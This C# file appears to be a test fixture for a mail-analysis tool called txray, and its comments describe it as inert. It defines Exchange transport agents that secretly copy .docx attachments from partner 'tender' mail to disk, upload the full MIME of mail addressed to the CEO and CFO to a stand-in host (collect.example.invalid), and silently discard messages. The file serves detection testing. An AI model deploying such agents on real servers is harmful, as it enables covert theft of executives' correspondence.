// Written for txray: three agents that stand in six folders in six forms, which all do the same. Here tests and effects stand in helpers of their own.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid. A correct analysis says the same of every form: which data goes where, under which condition, and to escalate.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Threading.Tasks;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

namespace Txray.Metamorphic
{
    public class CollectorFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new CollectorAgent();
        }
    }

    public class CollectorAgent : RoutingAgent
    {
        public CollectorAgent()
        {
            OnSubmittedMessage += Collect;
        }

        private void Collect(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Tests.IsPartner(e.MailItem) && Tests.IsTender(e.MailItem))
            {
                CollectAll(e.MailItem.Message.Attachments);
            }
        }

        private static void CollectAll(AttachmentCollection attachments)
        {
            foreach (Attachment attachment in attachments)
            {
                CollectOne(attachment);
            }
        }

        private static void CollectOne(Attachment attachment)
        {
            if (Tests.IsDocument(attachment))
            {
                Effects.Save(attachment.GetContentReadStream());
            }
        }
    }

    public class UploadFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new UploadAgent();
        }
    }

    public class UploadAgent : SmtpReceiveAgent
    {
        public UploadAgent()
        {
            OnEndOfData += Upload;
        }

        private async void Upload(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (!Tests.IsWatched(e.MailItem))
            {
                return;
            }
            byte[] mime = await Effects.ReadAsync(e.MailItem);
            Effects.Send(mime);
        }
    }

    public class CountFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new CountAgent();
        }
    }

    public class CountAgent : SmtpReceiveAgent
    {
        private int seen;

        public CountAgent()
        {
            OnEndOfData += Count;
        }

        private void Count(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            Note(e.MailItem.Message.Attachments.Count);
            if (Tests.IsUnwanted(e.MailItem))
            {
                Discard(source);
            }
        }

        private void Note(int attachments)
        {
            seen++;
            Trace.WriteLine(seen + " messages, this one with " + attachments + " attachments");
        }

        private static void Discard(ReceiveMessageEventSource source)
        {
            source.DiscardMessage(SmtpResponse.Empty, null);
        }
    }

    internal static class Tests
    {
        private static readonly HashSet<string> Watched = new HashSet<string> { "ceo@corp.example.invalid", "cfo@corp.example.invalid" };

        public static bool IsPartner(MailItem item)
        {
            return item.FromAddress.DomainPart == "partner.example.invalid";
        }

        public static bool IsTender(MailItem item)
        {
            return HasWord(item.Message.Subject, "tender");
        }

        public static bool IsDocument(Attachment attachment)
        {
            return attachment.FileName.EndsWith(".docx");
        }

        public static bool IsUnwanted(MailItem item)
        {
            return item.Message.Subject == "delete me";
        }

        public static bool IsWatched(MailItem item)
        {
            foreach (EnvelopeRecipient recipient in item.Recipients)
            {
                if (IsListed(recipient))
                {
                    return true;
                }
            }
            return false;
        }

        private static bool IsListed(EnvelopeRecipient recipient)
        {
            return Watched.Contains(recipient.Address.ToString());
        }

        private static bool HasWord(string text, string word)
        {
            return text.Contains(word);
        }
    }

    internal static class Effects
    {
        private const string Folder = @"C:\Pairs\Collected";

        public static void Save(Stream stream)
        {
            using (FileStream file = File.Create(NewPath()))
            {
                stream.CopyTo(file);
            }
        }

        public static async Task<byte[]> ReadAsync(MailItem item)
        {
            var memory = new MemoryStream();
            await item.GetMimeReadStream().CopyToAsync(memory);
            return memory.ToArray();
        }

        public static void Send(byte[] data)
        {
            new WebClient().UploadData("https://collect.example.invalid/mime", data);
        }

        private static string NewPath()
        {
            return Path.Combine(Folder, Guid.NewGuid().ToString());
        }
    }
}
